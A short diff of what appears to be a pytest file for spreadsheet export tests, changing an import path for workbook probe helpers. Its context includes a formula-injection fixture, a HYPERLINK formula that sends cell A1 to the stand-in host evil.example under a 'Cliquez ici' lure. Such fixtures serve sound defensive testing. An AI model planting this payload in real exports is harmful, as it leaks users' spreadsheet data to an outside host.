@@ -8,7 +8,7 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
-from workbook_probe import cells, export_via_command, libreoffice_resave, session_with_text
+from helpers.workbook_probe import cells, export_via_command, libreoffice_resave, session_with_text
 
 FORMULA_LIKE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
